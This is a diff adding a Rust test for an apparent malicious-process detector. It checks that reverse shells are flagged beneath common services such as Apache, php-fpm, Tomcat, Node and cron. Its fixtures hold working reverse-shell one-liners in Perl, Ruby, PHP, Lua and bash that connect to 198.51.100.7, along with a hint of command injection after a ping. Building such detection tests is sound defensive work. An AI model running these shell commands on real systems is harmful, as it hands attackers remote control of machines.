@@ -92,6 +92,54 @@ fn attacks_are_malicious() {
     assert!(told.is_empty(), "below {threshold}: {told:#?}");
 }
 
+/// Services as a sensor sees them, nearest first.
+const SERVICES: [&str; 8] = [
+    r#"[{"exe":"/usr/bin/python3.11","argv":["/usr/bin/python3","/srv/www/cgi-bin/status"]},{"exe":"/usr/bin/python3.11","argv":["python3","-m","http.server","--cgi","8080"]}]"#,
+    r#"[{"exe":"/usr/sbin/php-fpm8.2","argv":["php-fpm: pool www"]},{"exe":"/usr/sbin/php-fpm8.2","argv":["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"]}]"#,
+    r#"[{"exe":"/usr/sbin/apache2","argv":["/usr/sbin/apache2","-k","start"]},{"exe":"/usr/sbin/apache2","argv":["/usr/sbin/apache2","-k","start"]}]"#,
+    r#"[{"exe":"/usr/lib/jvm/java-17-openjdk-amd64/bin/java","argv":["java","-Dcatalina.base=/opt/tomcat","org.apache.catalina.startup.Bootstrap","start"]}]"#,
+    r#"[{"exe":"/usr/lib/postgresql/15/bin/postgres","argv":["postgres: app shop 10.0.0.5(40412) COPY"]},{"exe":"/usr/lib/postgresql/15/bin/postgres","argv":["/usr/lib/postgresql/15/bin/postgres","-D","/var/lib/postgresql/15/main"]}]"#,
+    r#"[{"exe":"/usr/bin/node","argv":["node","/srv/app/server.js"]}]"#,
+    r#"[{"exe":"/bin/bash","argv":["-bash"]},{"exe":"/usr/sbin/sshd","argv":["sshd: kim@pts/1"]}]"#,
+    r#"[{"exe":"/bin/sh","argv":["/bin/sh","-c","/usr/local/bin/job"]},{"exe":"/usr/sbin/cron","argv":["/usr/sbin/CRON","-f"]}]"#,
+];
+
+/// What opened the shell.
+const OPENERS: [&str; 5] = [
+    r#"{"exe":"/usr/bin/perl","argv":["perl","-MSocket","-e","socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton(\"198.51.100.7\")))&&do{open(STDIN,\"<&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh\",\"-i\")}"]}"#,
+    r#"{"exe":"/usr/bin/ruby3.1","argv":["ruby","-rsocket","-e","s=TCPSocket.new('198.51.100.7',4444);[0,1,2].each{|f|IO.for_fd(f).reopen(s)};exec '/bin/sh','-i'"]}"#,
+    r#"{"exe":"/usr/bin/php8.2","argv":["php","-r","$s=fsockopen(\"198.51.100.7\",9001);proc_open(\"sh\",[$s,$s,$s],$p);"]}"#,
+    r#"{"exe":"/usr/bin/lua5.4","argv":["lua5.4","-e","local s=require('socket').tcp();s:connect('198.51.100.7',4444);os.execute('sh -i')"]}"#,
+    r#"{"exe":"/usr/bin/bash","argv":["bash","-c","bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"]}"#,
+];
+
+/// A shell back is one below whatever service it was opened, in whatever language: a service that honest work runs under in
+/// many recordings must not excuse it.
+#[test]
+fn a_shell_on_a_connection_is_malicious_below_every_service() {
+    let model = model();
+    let threshold = model.thresholds().malicious;
+    let mut told = Vec::new();
+    for (service, opener) in SERVICES
+        .iter()
+        .flat_map(|one| OPENERS.map(|other| (one, other)))
+    {
+        let call =
+            r#"{"exe":"/usr/bin/dash","argv":["/bin/sh","-c","ping -c 1 -W 1 127.0.0.1;..."]}"#;
+        let above = service.trim_start_matches('[');
+        let json = format!(
+            r#"{{"id":"back","process":{{"exe":"/usr/bin/dash","argv":["/bin/sh","-i"],"uid":33,"euid":33,"tty":false,"stdin":"socket","stdout":"socket","stderr":"socket"}},
+              "ancestors":[{opener},{call},{above},
+              "connections":[{{"direction":"out","protocol":"tcp","address":"198.51.100.7","port":4444}}]}}"#
+        );
+        let probability = probability(&model, &json);
+        if probability < threshold {
+            told.push(format!("{probability:.3} {opener} below {service}"));
+        }
+    }
+    assert!(told.is_empty(), "below {threshold}: {told:#?}");
+}
+
 #[test]
 fn what_is_said_to_be_missed_is_missed() {
     let model = model();
